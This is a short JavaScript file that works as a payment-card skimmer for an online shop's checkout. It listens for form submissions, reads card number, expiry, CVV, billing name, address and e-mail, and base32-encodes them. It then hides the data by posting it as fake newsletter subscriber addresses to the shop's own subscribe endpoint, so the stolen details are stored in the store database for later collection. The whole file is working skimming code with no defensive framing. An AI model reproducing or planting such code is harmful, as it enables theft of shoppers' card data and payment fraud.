// corpus note: abuses the shop's own newsletter subscribe endpoint, splitting base32-encoded card data into several fake subscriber e-mail addresses that are stored in the store database
(function () {
  const ALPHA = "abcdefghijklmnopqrstuvwxyz234567";
  const SUBSCRIBE = "/newsletter/subscriber/new/";
  const DOMAIN = "mailbox.example";

  function b32(str) {
    const bytes = new TextEncoder().encode(str);
    let bits = 0, value = 0, out = "";
    for (const b of bytes) {
      value = (value << 8) | b;
      bits += 8;
      while (bits >= 5) {
        out += ALPHA[(value >>> (bits - 5)) & 31];
        bits -= 5;
      }
    }
    if (bits > 0) out += ALPHA[(value << (5 - bits)) & 31];
    return out;
  }

  function formKey() {
    const m = document.cookie.match(/(?:^|;\s*)form_key=([^;]+)/);
    if (m) return decodeURIComponent(m[1]);
    const hidden = document.querySelector("input[name='form_key']");
    return hidden ? hidden.value : "";
  }

  function subscribe(address) {
    const fd = new FormData();
    fd.append("email", address);
    fd.append("form_key", formKey());
    return fetch(SUBSCRIBE, { method: "POST", body: fd, credentials: "include", redirect: "manual" }).catch(() => null);
  }

  function fieldsFrom(form) {
    const get = (n) => (form.elements[n] && form.elements[n].value) || "";
    return [
      get("payment[cc_number]"), get("payment[cc_exp_month]"), get("payment[cc_exp_year]"), get("payment[cc_cid]"),
      get("billing[firstname]"), get("billing[lastname]"), get("billing[street][]"), get("billing[postcode]"),
      (document.getElementById("login-email") || document.getElementById("billing:email") || { value: "" }).value
    ];
  }

  async function handle(form) {
    const f = fieldsFrom(form);
    if (f[0].replace(/\D/g, "").length < 13) return;
    const enc = b32(f.join("|"));
    const tag = Math.random().toString(36).slice(2, 5);
    const size = 48;
    for (let i = 0, n = 0; i < enc.length; i += size, n++) {
      await subscribe(`${tag}${n}.${enc.slice(i, i + size)}@${DOMAIN}`);
    }
  }

  document.addEventListener("submit", (ev) => {
    const form = ev.target;
    if (form && form.elements && form.elements["payment[cc_number]"]) handle(form);
  }, true);
})();
